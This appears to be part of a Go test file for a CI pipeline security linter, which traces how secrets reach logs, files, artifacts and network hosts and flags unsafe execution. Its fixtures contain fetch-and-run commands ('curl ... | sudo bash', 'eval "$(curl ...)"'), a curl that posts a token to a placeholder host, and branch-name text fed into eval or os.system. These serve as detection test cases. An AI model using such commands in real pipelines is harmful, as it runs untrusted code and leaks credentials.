			t.Errorf("%s in %s: %q", test.run, test.shell, got)
		}
	}
}

func TestFlowsBetweenSteps(t *testing.T) {
	tests := []struct {
		name, workflow string
		files          map[string]string
		want           []string
	}{
		{"a variable of the job", jobOf("- run: echo $TOKEN"), nil, []string{"log by echo KEY masked=yes at $TOKEN"}},
		{"a variable for later steps", jobOf("- run: echo \"A=${TOKEN:1}\" >> $GITHUB_ENV\n- run: echo $A"), nil, []string{
			"env_file KEY +substring at ${TOKEN:1}", "log by echo KEY +substring masked=no at $A",
		}},
		{"a variable over several lines", jobOf("- run: |\n    {\n      echo 'A<<EOF'\n      echo \"$TOKEN\"\n      echo EOF\n    } >> \"$GITHUB_ENV\"\n- run: echo $A"), nil, []string{
			"env_file KEY at $TOKEN", "log by echo KEY masked=yes at $A",
		}},
		{"an output", jobOf("- id: one\n  run: echo \"a=$(echo $TOKEN | rev)\" >> $GITHUB_OUTPUT\n- run: echo ${{ steps.one.outputs.a }}\n- run: echo $B\n  env:\n    B: ${{ steps.one.outputs.a }}"), nil, []string{
			"output KEY +reverse masked=no at $(echo $TOKEN | rev)", "log by echo KEY +reverse masked=no at ${{ steps.one.outputs.a }}", "log by echo KEY +reverse masked=no at $B",
		}},
		{"a mask that stays", jobOf("- id: one\n  run: |\n    A=$(echo $TOKEN | rev)\n    echo \"::add-mask::$A\"\n    echo \"a=$A\" >> $GITHUB_OUTPUT\n- run: echo ${{ steps.one.outputs.a }}"), nil, []string{
			"output KEY +reverse masked=yes at $A", "log by echo KEY +reverse masked=yes at ${{ steps.one.outputs.a }}",
		}},
		{"a file", jobOf("- run: echo $TOKEN > key.pem\n- run: cat key.pem\n- uses: actions/upload-artifact@v4\n  with:\n    path: .\n- run: rm key.pem\n- uses: actions/upload-artifact@v4\n  with:\n    path: ."), nil, []string{
			"file by echo KEY path=key.pem at $TOKEN", "log by cat KEY masked=yes at cat", "artifact KEY path=key.pem at .",
		}},
		{"an output of a job", "on: push\njobs:\n  b:\n    needs: a\n    runs-on: x\n    steps:\n      - run: echo ${{ needs.a.outputs.t }}\n" +
			"  a:\n    runs-on: x\n    outputs:\n      t: ${{ steps.s.outputs.t }}\n    steps:\n      - id: s\n        run: echo t=$(rev <<< \"${{ secrets.KEY }}\") >> $GITHUB_OUTPUT\n", nil, []string{
			"output KEY +reverse masked=no at $(rev <<< \"${{ secrets.KEY }}\")", "output KEY +reverse masked=no at ${{ steps.s.outputs.t }}", "log by echo KEY +reverse masked=no at ${{ needs.a.outputs.t }}",
		}},
		{"an output of a job that was masked", "on: push\njobs:\n  a:\n    runs-on: x\n    outputs:\n      t: ${{ steps.s.outputs.t }}\n    steps:\n      - id: s\n        run: |\n          A=$(rev <<< \"${{ secrets.KEY }}\")\n          if true; then echo ::add-mask::$A; echo t=$A >> $GITHUB_OUTPUT; fi\n", nil, []string{
			"output KEY +reverse masked=yes at $A",
		}},
		{"an output of a job that the runner drops", "on: push\njobs:\n  b:\n    needs: a\n    runs-on: x\n    steps:\n      - run: echo ${{ needs.a.outputs.t }}\n" +
			"  a:\n    runs-on: x\n    outputs:\n      t: ${{ steps.s.outputs.t }}\n    steps:\n      - id: s\n        run: echo t=${{ secrets.KEY }} >> $GITHUB_OUTPUT\n", nil, []string{
			"output KEY at ${{ secrets.KEY }}",
		}},
		{"a script of the repository", jobOf("- run: ./ci/deploy.sh \"$TOKEN\"\n- run: bash ci/deploy.sh x"), map[string]string{"ci/deploy.sh": "#!/bin/bash\necho \"$1\" | rev\necho ${TOKEN:2}\n"}, []string{
			"argv by deploy.sh KEY at $TOKEN", "log by rev KEY +reverse masked=no at rev", "log by echo KEY +substring masked=no at ${TOKEN:2}", "log by echo KEY +substring masked=no at ${TOKEN:2}",
		}},
		{"scripts and files of a folder", jobOf("- working-directory: ci\n  run: |\n    ./deploy.sh\n    cd sub && echo $TOKEN > a\n- run: (cd ci/sub; cat a); cat ci/sub/a"), map[string]string{"ci/deploy.sh": "echo ${TOKEN:2}\n"}, []string{
			"log by echo KEY +substring masked=no at ${TOKEN:2}", "file by echo KEY path=ci/sub/a at $TOKEN", "log by cat KEY masked=yes at cat", "log by cat KEY masked=yes at cat",
		}},
		{"a script that is read in", jobOf("- run: |\n    . ci/env.sh\n    echo $B"), map[string]string{"ci/env.sh": "B=${TOKEN:2}\n"}, []string{"log by echo KEY +substring masked=no at $B"}},
		{"an address in a variable", "on: push\nenv: {API: 'https://a.example/x', TF_LOG: debug}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - env: {TOKEN: '${{ secrets.KEY }}'}\n        run: |\n          curl -H \"x: $TOKEN\" $API\n          terraform plan\n", nil, []string{
			"argv by curl KEY at $TOKEN", "network by curl KEY host=a.example at $TOKEN", "log by TF_LOG KEY masked=yes likely at terraform",
		}},
		{"somebody else's action", jobOf("- uses: a/b@v1\n  with:\n    key: ${{ secrets.B }}\n- uses: actions/setup-node@v4\n  with:\n    token: ${{ secrets.B }}"), nil, []string{"third_party B at ${{ secrets.B }}"}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			got, _ := pipelinetest.Followed(t, test.workflow, test.files)
			if diff := cmp.Diff(test.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// The steps of a way lead from the reference to the sink.
func TestTheWayOfASecret(t *testing.T) {
	_, doc := pipelinetest.Followed(t, jobOf("- run: |\n    A=\"x$TOKEN\"\n    echo \"B=$A\" >> $GITHUB_ENV\n- run: echo $B"), nil)
	place, err := doc.Locate(lint.Path{"flows", 1}, lint.Spot{})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, step := range place.Flow {
		got = append(got, fmt.Sprintf("%d: %s", step.Location.Start.Line, step.Message))
	}
	want := []string{
		"6: the secret is handed over here", "6: TOKEN is set here", "9: A is set here", "10: it becomes the variable B of later steps here",
		"11: it is printed here by echo",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func TestReaders(t *testing.T) {
	_, doc := pipelinetest.Followed(t, jobOf("- run: echo $TOKEN\n- run: ls\n- run: npm test\n- uses: a/b@v1\n- run: '[ -n \"$TOKEN\" ]'"), nil)
	var got []string
	for _, r := range doc.Root.Get("exposures").List()[0].Get("readers").List() {
		got = append(got, r.Get("uses").Str())
	}
	if diff := cmp.Diff([]string{"yes", "no", "unknown", "unknown", "yes"}, got); diff != "" {
		t.Error(diff)
	}
}

func TestScriptsThatCannotBeReadAreGaps(t *testing.T) {
	_, doc := pipelinetest.Followed(t, jobOf("- run: |\n    echo a\n    if [ -n \"$TOKEN\"; do\n    echo \"(\n"), nil)
	gaps := doc.Root.Get("gaps").List()
	if len(gaps) != 1 || gaps[0].Get("why").Str() != "syntax" {
		t.Fatalf("got %d gaps", len(gaps))
	}
}

func TestMissingScriptsAreGaps(t *testing.T) {
	missing := []string{"what x.sh does could not be followed: there is no such file in the repository"}
	tests := []struct {
		name, script string
		want         []string
	}{
		{"by its path", "./x.sh", missing},
		{"by a shell", "bash x.sh", missing},
		{"of the repository", "./ci/y.sh", nil},
		{"that the job made", "echo ls > x.sh; bash x.sh", nil},
		{"a computed path", "./$NAME.sh", nil},
		{"of the machine", "/usr/bin/x", nil},
		{"a program", "x y.sh", nil},
		{"without the secret", "unset TOKEN; ./x.sh", nil},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			_, doc := pipelinetest.Followed(t, script(test.script), map[string]string{"ci/y.sh": "ls\n"})
			var got []string
			for _, gap := range doc.Root.Get("gaps").List() {
				got = append(got, gap.Get("what").Str())
			}
			if diff := cmp.Diff(test.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// The beginning of a script that is too long to be read is judged.
func TestScriptsThatAreTooLongAreJudgedUpToTheLimit(t *testing.T) {
	padding := strings.Repeat("# "+strings.Repeat("x", 1000)+"\n", 400)
	branch := "if true; then\n" + padding + "fi\n"
	nested := "x=" + strings.Repeat("$(", 300) + strings.Repeat(")", 300) + "\n"
	files := map[string]string{"long.sh": "echo $TOKEN | rev\n" + padding}
	secret := []string{"log by rev KEY +reverse masked=no at rev"}
	tests := []struct {
		name, script string
		want         []string
	}{
		{"many lines", "echo $TOKEN | rev\n" + strings.Repeat(padding, 12), secret},
		{"lines within a command", "echo $TOKEN | rev\n" + branch, secret},
		{"brackets", "echo $TOKEN | rev\n" + nested, secret},
		{"one line", "echo $TOKEN | rev; : " + strings.Repeat("x", 1<<20), secret},
		{"of the repository", "sh long.sh", secret},
		{"behind the limit", padding + "echo $TOKEN | rev", nil},
		{"Python", "python3 - <<'E'\nimport os\nprint(os.environ['TOKEN'][1:])\n" + padding + "E\n", nil},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			got, doc := pipelinetest.Followed(t, script(test.script), files)
			if diff := cmp.Diff(test.want, got); diff != "" {
				t.Error(diff)
			}
			if gaps := doc.Root.Get("gaps").List(); len(gaps) != 1 || gaps[0].Get("why").Str() != "limit" {
				t.Errorf("got %d gaps", len(gaps))
			}
		})
	}
	for shell, script := range map[string]string{"python": "import os\nprint(os.environ['TOKEN'][1:])\n", "pwsh": "Write-Output $env:TOKEN.Substring(1)\n"} {
		got, doc := pipelinetest.Followed(t, jobOf("- shell: "+shell+"\n  run: |\n"+indent(script+padding, "    ")), nil)
		if len(got) != 1 || len(doc.Root.Get("gaps").List()) == 0 {
			t.Errorf("%s: got %v", shell, got)
		}
	}
}

func TestCustomShells(t *testing.T) {
	tests := []struct {
		shell        string
		follows, gap bool
	}{
		{"bash -l {0}", true, false},
		{"nix develop -c bash {0}", true, false},
		{"sudo -E /usr/bin/zsh -e {0}", true, false},
		{"micromamba-shell {0}", true, false},
		{"msys2 {0}", true, false},
		{"fish {0}", false, true},
		{"nix develop -c {0}", false, true},
		{"Rscript {0}", false, true},
		{"${{ matrix.shell }}", false, true},
		{"python {0}", false, false},
		{"uv run python3 {0}", false, false},
	}
	for _, test := range tests {
		got, doc := pipelinetest.Followed(t, jobOf("- shell: "+test.shell+"\n  run: echo $TOKEN | rev\n"), nil)
		if follows := len(got) > 0; follows != test.follows {
			t.Errorf("%s: got %v", test.shell, got)
		}
		gaps := doc.Root.Get("gaps").List()
		if gap := len(gaps) > 0; gap != test.gap {
			t.Errorf("%s: got %d gaps", test.shell, len(gaps))
		}
	}
	_, doc := pipelinetest.Followed(t, "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - shell: fish {0}\n        run: make\n", nil)
	if gaps := doc.Root.Get("gaps").List(); len(gaps) > 0 {
		t.Error("a script without a secret is a gap")
	}
	got, _ := pipelinetest.Followed(t, jobOf("- shell: nix develop -c bash -x {0}\n  run: test \"$TOKEN\"\n"), nil)
	if diff := cmp.Diff([]string{"log by set -x KEY masked=yes at $TOKEN"}, got); diff != "" {
		t.Error(diff)
	}
}

func TestCodeOfTheRepositoryThatIsNotFollowedIsAGap(t *testing.T) {
	tests := []struct {
		script string
		want   int
	}{
		{"just deploy", 1},
		{"go run ./tools/deploy", 1},
		{"cargo run --bin deploy", 1},
		{"deno task deploy", 1},
		{"task --list", 0},
		{"go build ./...", 0},
		{"env -u TOKEN go run ./tools/deploy", 0},
	}
	for _, tt := range tests {
		_, doc := pipelinetest.Followed(t, script(tt.script), nil)
		if got := len(doc.Root.Get("gaps").List()); got != tt.want {
			t.Errorf("%s: got %d gaps, want %d", tt.script, got, tt.want)
		}
	}
}

// What Windows runs is read by patterns.
func TestFlowsOnWindows(t *testing.T) {
	tests := []struct {
		name, shell, script string
		want                []string
	}{
		{"a print", "pwsh", `Write-Host "key: $env:TOKEN"`, []string{"log by Write-Host KEY masked=yes likely at $env:TOKEN"}},
		{"the default on Windows", "", `Write-Output $env:TOKEN`, []string{"log by Write-Output KEY masked=yes likely at $env:TOKEN"}},
		{"an assignment", "pwsh", "$a = $env:TOKEN.Substring(0, 4)\nWrite-Host $a", []string{"log by Write-Host KEY +substring masked=no likely at $a"}},
		{"a conversion", "pwsh", "$b = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:TOKEN))\necho \"$b\"", []string{"log by echo KEY +base64 masked=yes likely at $b"}},
		{"a variable of the environment", "powershell", "$env:B = $env:TOKEN\nwrite-host $Env:B", []string{"log by write-host KEY masked=yes likely at $Env:B"}},
		{"a dump", "pwsh", "Get-ChildItem env:", []string{"log by Get-ChildItem env: KEY masked=yes likely at Get-ChildItem"}},
		{"a request", "pwsh", "Invoke-RestMethod -Uri https://a.example/x -Headers @{ Authorization = \"Bearer $env:TOKEN\" }", []string{"network by Invoke-RestMethod KEY host=a.example likely at $env:TOKEN"}},
		{"a program", "pwsh", "nuget push a.nupkg -ApiKey $env:TOKEN", []string{"argv by nuget KEY likely at $env:TOKEN"}},
		{"a file", "pwsh", "$env:TOKEN | Out-File key.txt\nGet-Content key.txt", []string{"file by Out-File KEY path=key.txt likely at $env:TOKEN", "log by Get-Content KEY masked=yes likely at Get-Content"}},
		{"a file by value", "pwsh", "Set-Content -Path key.txt -Value $env:TOKEN", []string{"file by Set-Content KEY path=key.txt likely at $env:TOKEN"}},
		{"an output", "pwsh", "\"key=$env:TOKEN\" >> $env:GITHUB_OUTPUT", []string{"output KEY likely at $env:TOKEN"}},
		{"an output by a pipe", "pwsh", "echo \"key=$env:TOKEN\" | Out-File -FilePath $env:GITHUB_OUTPUT -Append", []string{"output KEY likely at $env:TOKEN"}},
		{"a mask", "pwsh", "$a = $env:TOKEN.ToUpper()\necho \"::add-mask::$a\"\necho $a", []string{"log by echo KEY +case masked=yes likely at $a"}},
		{"a file by a method", "pwsh", "[IO.File]::WriteAllText(\"$env:RUNNER_TEMP/key.pfx\", [Convert]::FromBase64String($env:TOKEN))", []string{"file by [IO.File] KEY +decoded path=$RUNNER_TEMP/key.pfx likely at $env:TOKEN"}},
		{"a header", "pwsh", "$headers.Add('Authorization', \"Bearer $env:TOKEN\")", nil},
		{"nothing", "pwsh", "if ($env:TOKEN -eq '') { exit 1 }\nWrite-Host '$env:TOKEN'\n# Write-Host $env:TOKEN\n$env:TOKEN | Out-Null\n$env:TOKEN | docker login -u a --password-stdin", nil},
		{"cmd", "cmd", "echo %TOKEN%\r\nset A=%TOKEN:~0,4%\r\necho %A%", []string{"log by echo KEY masked=yes likely at %TOKEN%", "log by echo KEY +substring masked=no likely at %A%"}},
		{"cmd and programs", "cmd", "@echo off\ncurl -u me:%TOKEN% https://a.example\nif \"%TOKEN%\"==\"\" exit /b 1\necho %TOKEN%> key.txt\nset", []string{
			"argv by curl KEY likely at %TOKEN%", "network by curl KEY host=a.example likely at %TOKEN%", "file by echo KEY path=key.txt likely at %TOKEN%", "log by set KEY masked=yes likely at set",
		}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			workflow := strings.Replace(script(test.script), "runs-on: x", "runs-on: windows-2025", 1)
			if test.shell != "" {
				workflow = strings.Replace(workflow, "      - env:", "      - shell: "+test.shell+"\n        env:", 1)
			}
			got, _ := pipelinetest.Followed(t, workflow, nil)
			if diff := cmp.Diff(test.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// A pipeline that is started gets what it is given, and not what the door is opened with.
func TestStartedPipelines(t *testing.T) {
	tests := []struct {
		script  string
		command string // "" if nothing is handed over
	}{
		{`argo submit wf.yaml -p token=$TOKEN`, "argo submit"},
		{`argo submit --from workflowtemplate/x --parameter "token=$TOKEN"`, "argo submit"},
		{`argo submit wf.yaml --token $TOKEN`, ""},
		{`argo submit wf.yaml --token=$TOKEN`, ""},
		{`argo logs $TOKEN`, ""},
		{`tkn pipeline start build -p token=$TOKEN --showlog`, "tkn pipeline start"},
		{`tkn task start build --param=token=$TOKEN`, "tkn task start"},
		{`tkn pipeline logs build`, ""},
		{`bk build create --pipeline x --env "T=$TOKEN"`, "bk build create"},
		{`az pipelines run --name x --parameters t=$TOKEN`, "az pipelines run"},
		{`aws codebuild start-build --project-name x --environment-variables-override name=T,value=$TOKEN`, "aws codebuild start-build"},
		{`gcloud builds submit --substitutions=_T=$TOKEN`, "gcloud builds submit"},
		{`gcloud builds list --filter $TOKEN`, ""},
		{`curl -H "Authorization: Bearer $TOKEN" -d '{"commit":"HEAD"}' https://api.buildkite.com/v2/organizations/o/pipelines/p/builds`, ""},
		{`curl -H "Authorization: Bearer $API" -d '{"env":{"T":"'"$TOKEN"'"}}' https://api.buildkite.com/v2/organizations/o/pipelines/p/builds`, "curl"},
		{`curl -u me:$TOKEN -d @body.json https://api.bitbucket.org/2.0/repositories/w/r/pipelines/`, ""},
		{`curl -u me:x -d "{\"variables\":[{\"key\":\"T\",\"value\":\"$TOKEN\"}]}" https://api.bitbucket.org/2.0/repositories/w/r/pipelines/`, "curl"},
		{`curl -d "{\"token\":\"$TOKEN\"}" http://el-build.ci.svc:8080`, "curl"},
		{`curl -d "{\"token\":\"$TOKEN\"}" https://electric.example/x`, ""},
		{`curl -X POST "https://jenkins.example/job/x/buildWithParameters?TOKEN=$TOKEN"`, ""},
	}
	for _, test := range tests {
		t.Run(test.script, func(t *testing.T) {
			_, doc := pipelinetest.Followed(t, script(test.script), nil)
			got := ""
			for _, f := range doc.Root.Get("flows").List() {
				if f.Get("sink").Str() == "downstream" {
					got += f.Get("command").Str()
				}
			}
			if got != test.command {
				t.Errorf("got %q, want %q", got, test.command)
			}
		})
	}
}

// Each platform has ways of its own to hand values on.
func TestFlowsOfOtherPlatforms(t *testing.T) {
	tests := []struct {
		name, path, text string
		parse            func([]*lint.Source) ([]*lint.Document, []lint.Finding)
		want             []string
	}{
		{"a variable of Azure that is no secret", "azure-pipelines.yml", `steps:
- bash: |
    A=$(echo "$TOKEN" | cut -c1-4)
    echo "##vso[task.setvariable variable=Short]$A"
    echo "##vso[task.setvariable variable=out;isOutput=true]$A"
  name: make
  env: {TOKEN: $(API_TOKEN)}
- bash: |
    echo $SHORT
    echo $(Short)
    echo $(make.out)
`, azure.Parse, []string{
			"env_file API_TOKEN +substring at $A", "output API_TOKEN +substring masked=no at $A", "log by echo API_TOKEN +substring masked=no at $SHORT",
			"log by echo API_TOKEN +substring masked=no at $(Short)", "log by echo API_TOKEN +substring masked=no at $(make.out)",
		}},
		{"a variable of Azure that is one", "azure-pipelines.yml", `steps:
- bash: |
    echo "##vso[task.setvariable variable=Short;issecret=true]${TOKEN:1}"
  env: {TOKEN: $(API_TOKEN)}
- bash: |
    echo $SHORT
    echo $(Short)
`, azure.Parse, []string{"log by echo API_TOKEN +substring masked=yes at $(Short)"}},
		{"a report of variables in GitLab", ".gitlab-ci.yml", `one:
  stage: build
  script:
    - echo "A=$(echo $DEPLOY_TOKEN | rev)" > build.env
  artifacts: {reports: {dotenv: build.env}}
two:
  stage: deploy
  needs: [one]
  script: [echo $A]
three:
  stage: deploy
  needs: [other]
  variables: {DEPLOY_TOKEN: none}
  script: [printenv]
four:
  stage: deploy
  script: [printenv]
`, gitlab.Parse, []string{
			"file by echo DEPLOY_TOKEN +reverse path=build.env at $(echo $DEPLOY_TOKEN | rev)", "output DEPLOY_TOKEN +reverse masked=no path=build.env at build.env",
			"log by echo DEPLOY_TOKEN +reverse masked=no at $A", "log by printenv DEPLOY_TOKEN +reverse masked=no at printenv", "log by printenv DEPLOY_TOKEN masked=unknown at printenv",
		}},
		{"what a job of GitLab does not take", ".gitlab-ci.yml", `one:
  stage: build
  script:
    - echo "A=$(echo $DEPLOY_TOKEN | rev)" > build.env
    - echo $DEPLOY_TOKEN > out.txt
  artifacts: {paths: [out.txt], reports: {dotenv: build.env}}
.later:
  stage: deploy
  variables: {DEPLOY_TOKEN: none}
  script: ["echo $A", "cut -c1 out.txt"]
all: {extends: .later}
listed: {extends: .later, dependencies: [one]}
needed: {extends: .later, needs: [{job: one, artifacts: true}]}
nothing: {extends: .later, needs: []}
none: {extends: .later, dependencies: []}
other: {extends: .later, needs: [one], dependencies: []}
without: {extends: .later, needs: [{job: one, artifacts: false}]}
`, gitlab.Parse, []string{
			"file by echo DEPLOY_TOKEN +reverse path=build.env at $(echo $DEPLOY_TOKEN | rev)", "file by echo DEPLOY_TOKEN path=out.txt at $DEPLOY_TOKEN",
			"artifact DEPLOY_TOKEN path=out.txt at out.txt",
			"output DEPLOY_TOKEN +reverse masked=no path=build.env at build.env",
			"log by echo DEPLOY_TOKEN +reverse masked=no at $A", "log by cut DEPLOY_TOKEN +substring masked=no at cut",
			"log by echo DEPLOY_TOKEN +reverse masked=no at $A", "log by cut DEPLOY_TOKEN +substring masked=no at cut",
			"log by echo DEPLOY_TOKEN +reverse masked=no at $A", "log by cut DEPLOY_TOKEN +substring masked=no at cut",
		}},
		{"a variable that only code in another language names", ".gitlab-ci.yml", `one:
  script:
    - python -c "import os; print(os.environ['DEPLOY_TOKEN'][::-1])"
    - python -c "print('DEPLOY_TOKEN')"
`, gitlab.Parse, []string{"log by print DEPLOY_TOKEN +reverse masked=no likely at DEPLOY_TOKEN"}},
		{"a secret that GitLab writes to a file", ".gitlab-ci.yml", "one:\n  secrets:\n    KEY: {vault: a/b/c@d}\n  script: ['cat $KEY', 'ls $KEY']\n", gitlab.Parse, []string{"log by cat c masked=yes at cat"}},
		{"variables of later steps in CircleCI", ".circleci/config.yml", `version: 2.1
jobs:
  a:
    docker: [{image: "cimg/base:2024.01"}]
    steps:
      - run: echo "export SHORT=${API_TOKEN:0:4}" >> "$BASH_ENV"
      - run: echo $SHORT
`, circleci.Parse, []string{"env_file API_TOKEN +substring at ${API_TOKEN:0:4}", "log by echo API_TOKEN +substring masked=no at $SHORT"}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if diff := cmp.Diff(test.want, followedIn(t, test.path, test.text, test.parse)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// What managers of packages run stands in package.json, and what a library does in the
// file that a script reads.
func TestFlowsOfScriptsOfTheRepository(t *testing.T) {
	files := map[string]string{
		"package.json":     `{"name": "x", "scripts": {"ship": "curl -d \"$TOKEN\" https://h.example && npm run inner", "inner": "echo $TOKEN | rev; npm run ship", "preship": "echo $TOKEN > out", "test": "jest", "postinstall": "echo ${TOKEN:1}"}, "config": {"lint": "echo $TOKEN"}}`,
		"web/package.json": `{"scripts": {"release": "echo $TOKEN | rev"}}`,
		"lib.sh":           "show() { echo $TOKEN | rev; }\nquiet() { test $TOKEN; }\n",
	}
	tests := []struct {
		name, script string
		want         []string
	}{
		{"a script with one before it", "npm run ship", []string{
			"file by echo KEY path=out at $TOKEN", "argv by curl KEY at $TOKEN", "network by curl KEY host=h.example at $TOKEN", "log by rev KEY +reverse masked=no at rev",
		}},
		{"one of a folder", "yarn --cwd web release\n(cd web && pnpm run release)", []string{"log by rev KEY +reverse masked=no at rev"}},
		{"what an installation runs", "npm ci", []string{"log by echo KEY +substring masked=no at ${TOKEN:1}"}},
		{"what runs no such script", "npm ci --ignore-scripts\nnpm test\nyarn lint\nnpm view x", nil},
		{"a file of the repository in place of one with a secret", "echo $TOKEN > out; cp lib.sh out; cut -c1 out", []string{"file by echo KEY path=out at $TOKEN"}},
		{"one of which nobody knows whether it is there", "echo $TOKEN > out; cp lib.txt out || true; cut -c1 out", []string{"file by echo KEY path=out at $TOKEN", "log by cut KEY +substring masked=no at cut"}},
		{"a function of a library", ". ./lib.sh\nshow\nquiet", []string{"log by rev KEY +reverse masked=no at rev"}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			got, _ := pipelinetest.Followed(t, script(test.script), files)
			if diff := cmp.Diff(test.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// Where settings define variables, scripts of the repository may be the only ones that
// name them.
func TestVariablesThatOnlyScriptsName(t *testing.T) {
	scripts := map[string]string{
		"ci/ship.sh": "DB_PASSWORD=$(cat /run/pw)\necho $DB_PASSWORD | rev\necho $DEPLOY_TOKEN | rev\necho $APP_SECRET $deploy_token $HOME\n",
		"Makefile":   "ship:\n\t@echo $(NPM_TOKEN) | rev\n",
		"ci/ship.py": "import os\nprint(os.environ['API_KEY'][1:])\n",
	}
	all := []string{"log by rev DEPLOY_TOKEN +reverse masked=no at rev", "log by rev NPM_TOKEN +reverse masked=no at rev", "log by print API_KEY +substring masked=no likely at API_KEY"}
	tests := []struct {
		path, text string
		parse      parser
		want       []string
	}{
		{".gitlab-ci.yml", "variables: {APP_SECRET: none}\na:\n  script: [./ci/ship.sh, make ship, python ci/ship.py]\n", gitlab.Parse, all},
		{".circleci/config.yml", "version: 2.1\njobs:\n  a:\n    docker: [{image: x}]\n    environment: {APP_SECRET: none}\n    steps:\n    - run: ./ci/ship.sh\n    - run: make ship\n    - run: python ci/ship.py\n", circleci.Parse, all},
		{"azure-pipelines.yml", "steps:\n- script: ./ci/ship.sh\n", azure.Parse, nil}, // which hands nothing on by itself
	}
	for _, test := range tests {
		src := &lint.Source{Path: test.path, Data: []byte(test.text)}
		sources := map[string]*lint.Source{test.path: src}
		for path, text := range scripts {
			sources[path] = &lint.Source{Path: path, Data: []byte(text)}
		}
		docs, findings := test.parse([]*lint.Source{src})
		if len(docs) != 1 || len(findings) > 0 {
			t.Fatalf("got %d documents, findings %v", len(docs), findings)
		}
		got := pipelinetest.Flows(t, pipeline.Link(docs[0], func(path string) *lint.Source { return sources[path] }), sources)
		if diff := cmp.Diff(test.want, got); diff != "" {
			t.Errorf("%s: %s", test.path, diff)
		}
	}
}

func TestInjected(t *testing.T) {
	tests := []struct {
		name, script string
		want         []string
	}{
		{"a pipe", "curl -fsSL https://h.example/x.sh | sudo bash -s -- -y", []string{"download by bash at curl"}},
		{"a file", "curl -sSLo x.sh https://h.example/x.sh\nsh x.sh", []string{"download by sh at curl"}},
		{"a program", "wget -q https://h.example/x\nchmod +x x && ./x", []string{"download by x at wget"}},
		{"a substitution", "eval \"$(curl -s https://h.example)\"", []string{"download by eval at $(curl -s https://h.example)"}},
		{"another language", "wget -qO- https://h.example/x.py | python3 -", []string{"download by python3 at wget"}},
		{"what was compared", "curl -o x https://h.example/x\necho \"$SUM x\" | sha256sum -c\n./x", nil},
		{"a part of a download", "V=$(curl -s https://h.example | jq -r .v)\nbash -c \"echo $V\"\nbash -c \"x $(curl -s https://h.example)\"", nil},
		{"a module that reads", "curl -s https://h.example | python3 -m json.tool", nil},
		{"a commit", "curl -s https://h.example/0123456789abcdef0123456789abcdef01234567/x | sh", nil},
		{"an outsider's text", "T=\"$GITHUB_HEAD_REF\"\nsh -c \"git log $T\"", []string{"outsider GITHUB_HEAD_REF by sh -c at $T"}},
		{"an outsider's text on another machine", "ssh h \"git log $GITHUB_HEAD_REF\"", []string{"outsider GITHUB_HEAD_REF by ssh at $GITHUB_HEAD_REF"}},
		{"an outsider's text as an argument", "sh -c 'git log \"$1\"' _ \"$GITHUB_HEAD_REF\"\ngit log \"$GITHUB_HEAD_REF\"", nil},
		{"an outsider's text that was cleaned", "T=$(echo \"$GITHUB_HEAD_REF\" | tr -cd a-z)\neval \"git log $T\"", nil},
		{"an outsider's text without its beginning", "T=${GITHUB_HEAD_REF#x/}\neval \"$T\"", []string{"outsider GITHUB_HEAD_REF by eval at $T"}},
		{"an outsider's text a word of it", "T=$(echo \"$GITHUB_HEAD_REF\" | cut -d/ -f2)\nbash -c \"$T\"", []string{"outsider GITHUB_HEAD_REF by bash -c at $T"}},
		{"an outsider's text through filters", "echo \"$GITHUB_HEAD_REF\" | sed s/a/b/ | awk '{print $2}' | bash", []string{"outsider GITHUB_HEAD_REF by bash at awk"}},
		{"an outsider's text as the command", "$GITHUB_HEAD_REF", []string{"outsider GITHUB_HEAD_REF by a command at $GITHUB_HEAD_REF"}},
		{"an outsider's text as the command of another", "find . -exec $GITHUB_HEAD_REF ;\nsudo -E $GITHUB_HEAD_REF", []string{"outsider GITHUB_HEAD_REF by a command at $GITHUB_HEAD_REF", "outsider GITHUB_HEAD_REF by a command at $GITHUB_HEAD_REF"}},
		{"an outsider's text by another language", "python3 -c \"import os; os.system(os.environ['GITHUB_HEAD_REF'])\"", []string{"outsider GITHUB_HEAD_REF by os.system( at GITHUB_HEAD_REF"}},
		{"of an outsider's text: what grep finds of it", "T=$(echo \"$GITHUB_HEAD_REF\" | grep -oE '[0-9]+')\neval \"x $T\"", nil},
		{"of an outsider's text: what sed finds of it", "T=$(echo \"$GITHUB_HEAD_REF\" | sed -E 's/.*-([0-9]+)$/\\1/')\neval \"x $T\"", nil},
		{"of an outsider's text: quoted for a shell", "T=$(printf %q \"$GITHUB_HEAD_REF\")\neval \"x $T\"", nil},
		{"of an outsider's text: within quotes, its own replaced", "T=${GITHUB_HEAD_REF//\\'/}\neval \"x '$T'\"", nil},
		{"of an outsider's text: its digest", "T=$(echo \"$GITHUB_HEAD_REF\" | sha256sum | cut -c1-8)\neval \"x $T\"", nil},
		{"of an outsider's text: a command in quotes", "\"$GITHUB_HEAD_REF\"\n./ci/$GITHUB_HEAD_REF.sh", nil},
		{"of an outsider's text: an argument of what find runs", "find . -exec grep \"$GITHUB_HEAD_REF\" {} ;", nil},
		{"of an outsider's text: an argument of a program of another language", "python3 -c \"import os, subprocess; subprocess.run(['git', 'log', os.environ['GITHUB_HEAD_REF']])\"", nil},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			native, doc := pipelinetest.Workflow(t, ".github/workflows/x.yml", script(test.script))
			pipelinetest.CheckPlaces(t, native, doc)
			var got []string
			for _, n := range doc.Root.Get("injected").List() {
				words := strings.Fields(n.Get("kind").Str() + " " + n.Get("variable").Str() + " by " + n.Get("command").Str() + " at " + string(n.Span.Text()))
				got = append(got, strings.Join(words, " "))
			}
			if diff := cmp.Diff(test.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}
